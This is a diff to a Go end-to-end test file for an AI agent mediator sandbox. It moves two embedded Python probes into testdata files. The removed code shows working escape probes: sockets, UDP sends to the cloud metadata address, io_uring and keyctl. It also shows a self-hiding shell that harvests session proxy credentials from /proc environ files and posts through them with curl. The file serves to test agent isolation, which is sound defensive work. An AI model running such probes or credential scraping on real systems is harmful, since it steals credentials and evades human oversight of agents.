@@ -1,13 +1,13 @@
 package runs
 
 import (
+	_ "embed"
 	"errors"
 	"fmt"
 	"net"
 	"net/http"
 	"os"
 	"os/exec"
-	"path/filepath"
 	"strconv"
 	"strings"
 	"syscall"
@@ -23,31 +23,8 @@ import (
 	"github.com/actionproof/mediator/test/e2e/kit"
 )
 
-const tryWays = `
-import ctypes, os, socket, sys
-libc = ctypes.CDLL(None, use_errno=True)
-def call(what, *args):
-    if libc.syscall(*args) < 0: raise OSError(ctypes.get_errno(), what)
-for line in sys.argv[1].split("\n"):
-    kind, to = line.split(" ", 1)
-    try:
-        if kind == "socket": socket.socket(int(to), socket.SOCK_DGRAM if to == "40" else socket.SOCK_SEQPACKET)
-        elif kind == "uring": call("io_uring", 425, 1, ctypes.create_string_buffer(120))
-        elif kind == "key": call("keyctl", {"x86_64": 250}.get(os.uname().machine, 219), 0, -3, 0, 0, 0)
-        elif kind == "unix":
-            socket.socket(socket.AF_UNIX).connect(to.replace("@", "\0"))
-        else:
-            host, port = to.rsplit(":", 1)
-            s = socket.socket(socket.AF_INET6 if "[" in host else socket.AF_INET,
-                socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM)
-            s.settimeout(5)
-            s.connect((host.strip("[]"), int(port)))
-            if kind == "udp":
-                s.send(b"a secret")
-                s.send(b"a secret") # reports a refusal of the first
-        print("OPEN", line)
-    except OSError as e:
-        print("closed", line, e)`
+//go:embed testdata/ways.py
+var tryWays string
 
 // TestNoWayOutOfARun has an isolated agent try what would lead past the mediator, without rules of mediator guard. The
 // ways are open outside the run.
@@ -67,7 +44,7 @@ func TestNoWayOutOfARun(t *testing.T) {
 	ways := []string{
 		listen("tcp", "127.0.0.1:0"), listen("tcp", "[::1]:0"), "tcp " + r.Hooks, "tcp " + r.PlainAddr,
 		"udp " + datagrams.LocalAddr().String(), "udp 169.254.169.254:443", "udp 1.1.1.1:443", "udp [2606:4700::1111]:443",
-		listen("unix", "@mediator-test-"+strconv.Itoa(os.Getpid())), listen("unix", filepath.Join(dir, "socket")),
+		listen("unix", "@mediator-test-"+strconv.Itoa(os.Getpid())), listen("unix", dir+"/socket"),
 		"unix " + r.Stack.Socket("serve"), "socket 40", "socket 17", "socket 38", "uring 0", "key 0",
 	}
 	all := strings.Join(ways, "\n")
@@ -91,21 +68,9 @@ func TestNoWayOutOfARun(t *testing.T) {
 
 // hiddenShell is a shell whose first thread has ended. It looks for credentials of a session in the environment of all
 // processes, and posts with what it finds, and without.
-const hiddenShell = `
-import ctypes, glob, re, subprocess, sys, threading, time
-def work():
-    while open("/proc/self/stat").read().rsplit(")", 1)[1].split()[0] != "Z": time.sleep(0.01)
-    proxies = set()
-    for name in glob.glob("/proc/[0-9]*/environ"):
-        try: proxies |= set(re.findall(r"HTTPS_PROXY=(http://ses_[^\0]+)", open(name).read()))
-        except OSError: pass
-    for proxy in list(proxies) + [sys.argv[1]]:
-        print(len(proxies), subprocess.run(["curl", "-sS", "-k", "-x", proxy, "-w", " %{http_code}",
-            "-H", "Content-Type: application/json", "-d", '{"body":"typed"}', sys.argv[2]],
-            capture_output=True, text=True), flush=True)
-    time.sleep(1000)
-threading.Thread(target=work).start()
-ctypes.CDLL(None).pthread_exit(None)`
+//
+//go:embed testdata/hidden.py
+var hiddenShell string
 
 // TestHiddenShell has a user with the agents' configured uid hide a shell from looks at processes, and post. An
 // isolated agent has another user and nothing worth reading. The session of an agent that shares the user is tainted.
